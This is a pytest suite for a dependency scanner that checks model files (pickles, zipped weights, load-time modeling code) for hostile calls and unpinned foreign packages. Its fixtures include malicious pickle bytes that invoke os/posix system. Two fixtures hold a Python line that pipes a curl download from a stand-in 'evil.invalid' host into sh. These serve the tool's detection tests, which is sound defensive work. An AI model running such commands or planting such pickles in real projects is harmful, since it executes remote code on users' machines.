"""A scan of a project reads the model files in it, and the packages they need join its graph."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest

import depscan
from depscan.api import Options
from depscan.model.result import ScanResult
from depscan.reports.json import document

CALL = b"cos\nsystem\n(S'true'\ntR."
FOREIGN = b"csome_package\nNet\n(tR."


def scan(folder: Path, policy: str = "") -> ScanResult:
    (folder / "depscan.toml").write_text(policy, "utf-8")
    return depscan.scan([str(folder)], Options(config=str(folder / "depscan.toml")))


def rules(result: ScanResult) -> set[str]:
    return {f"{d.finding.rule} {d.action}" for d in result.decisions if d.finding.rule.startswith("model/")}


@pytest.fixture
def project(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "requirements.txt").write_text("requests==2.32.3\n", "utf-8")
    return folder


def test_a_model_is_found_by_its_name_and_the_subject_is_the_file(project: Path) -> None:
    (project / "models").mkdir()
    path = project / "models" / "ranker.pkl"
    path.write_bytes(CALL)
    result = scan(project)
    assert result.exit_code == 1
    (finding,) = [f for f in result.findings if f.rule == "model/hostile-call"]
    assert finding.subject == str(path)
    assert finding.primary.path == str(path)
    assert [model.verdict for model in result.models] == ["hostile"]


@pytest.mark.parametrize("name", ["weights", "cache.dat", "blob.xyz"])
def test_a_model_is_found_by_its_first_bytes(project: Path, name: str) -> None:
    (project / name).write_bytes(b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R.")
    assert scan(project).exit_code == 1


def test_a_model_in_an_archive_of_the_project_is_found(project: Path) -> None:
    with zipfile.ZipFile(project / "weights.zip", "w") as archive:
        archive.writestr("inside/model.pkl", CALL)
    result = scan(project)
    assert result.exit_code == 1
    assert {f.subject for f in result.findings if f.rule == "model/hostile-call"} == {str(project / "weights.zip")}


def test_code_that_runs_at_load_is_read(project: Path) -> None:
    settings = {"model_type": "m", "auto_map": {"AutoModel": "modeling_m.M"}, "architectures": ["M"]}
    (project / "config.json").write_text(json.dumps(settings), "utf-8")
    (project / "modeling_m.py").write_text(
        "import os\nos.system('curl http://evil.invalid/x | sh')\n\n\nclass M:\n    pass\n", "utf-8"
    )
    result = scan(project)
    assert any(f.primary.path.endswith("modeling_m.py") for f in result.findings)
    assert result.exit_code == 1


def test_python_that_no_model_runs_is_not_looked_at(project: Path) -> None:
    (project / "model.pkl").write_bytes(b"N.")
    (project / "other.py").write_text("import os\nos.system('curl http://evil.invalid/x | sh')\n", "utf-8")
    assert not [f for f in scan(project).findings if f.primary.path.endswith("other.py")]


def test_a_foreign_package_gets_an_edge(project: Path) -> None:
    (project / "model.pkl").write_bytes(FOREIGN)
    result = scan(project)
    assert rules(result) == {"model/foreign-code block"}
    assert any(p.name == "some-package" for p in result.graph.nodes.values())
    edges = [edge for edge in result.graph.edges if "some-package" in str(edge)]
    assert edges
    assert any("loads" in str(edge) for edge in edges)


def test_a_package_that_the_lock_pins_is_only_a_warning(project: Path) -> None:
    (project / "model.pkl").write_bytes(FOREIGN)
    (project / "requirements.txt").write_text("some-package==1.0\n", "utf-8")
    assert rules(scan(project)) == {"model/foreign-code warn"}


def test_a_pinned_package_is_no_excuse_for_what_is_hostile(project: Path) -> None:
    (project / "model.pkl").write_bytes(CALL)
    (project / "requirements.txt").write_text("os==1.0\nposix==1.0\n", "utf-8")
    assert scan(project).exit_code == 1


@pytest.mark.parametrize("named", ["{folder}/models/ranker.pkl"])
def test_an_exception_accepts_one_file(project: Path, named: str) -> None:
    (project / "models").mkdir()
    (project / "models" / "ranker.pkl").write_bytes(FOREIGN)
    (project / "other.pkl").write_bytes(FOREIGN)
    package = named.format(folder=project)
    policy = f'[[exception]]\nid = "model/foreign-code"\npackage = "{package}"\nreason = "ours"\nowner = "us"\nexpires = "2099-01-31"\n'
    actions = {d.finding.subject: d.action for d in scan(project, policy).decisions if d.finding.rule[:6] == "model/"}
    assert actions == {str(project / "models" / "ranker.pkl"): "allow", str(project / "other.pkl"): "block"}


def test_an_exception_by_a_relative_name_fits_a_scan_from_there(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (project / "models").mkdir()
    (project / "models" / "ranker.pkl").write_bytes(FOREIGN)
    monkeypatch.chdir(project)
    Path("depscan.toml").write_text(
        '[[exception]]\nid = "model/foreign-code"\npackage = "models/ranker.pkl"\nreason = "ours"\nowner = "us"\nexpires = "2099-01-31"\n',
        "utf-8",
    )
    result = depscan.scan(["."], Options(config="depscan.toml"))
    assert {d.action for d in result.decisions if d.finding.rule == "model/foreign-code"} == {"allow"}


def test_the_report_for_machines_has_the_models(project: Path) -> None:
    (project / "model.pkl").write_bytes(FOREIGN)
    (model,) = document(scan(project))["models"]
    assert (model["path"], model["format"], model["verdict"]) == ("model.pkl", "pickle", "foreign code needed")
    assert model["needs"] == ["some-package"]
    assert set(model["program"][0]) == {"place", "text", "verdict", "why"}


def test_a_project_without_models_has_none(project: Path) -> None:
    assert scan(project).models == ()


def _pinned_by_npm(name: str) -> str:
    packages = {"": {"name": "x"}, f"node_modules/{name}": {"version": "1.0.0", "resolved": "", "integrity": ""}}
    return json.dumps({"name": "x", "lockfileVersion": 3, "packages": packages})


def test_a_package_of_another_ecosystem_is_no_pin(project: Path) -> None:
    (project / "model.pkl").write_bytes(b"clodash\nNet\n(tR.")
    (project / "package-lock.json").write_text(_pinned_by_npm("lodash"), "utf-8")
    assert rules(scan(project)) == {"model/foreign-code block"}


def test_a_pin_is_found_however_its_name_is_spelt(project: Path) -> None:
    (project / "model.pkl").write_bytes(b"cSome_Package\nNet\n(tR.")
    (project / "requirements.txt").write_text("Some_Package==1.0\n", "utf-8")
    assert rules(scan(project)) == {"model/foreign-code warn"}


def test_a_pickle_named_like_a_text_is_found_by_its_first_bytes(project: Path) -> None:
    (project / "weights.txt").write_bytes(b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R.")
    (project / "notes.md").write_text("{ nothing }", "utf-8")
    assert "model/hostile-call block" in rules(scan(project))
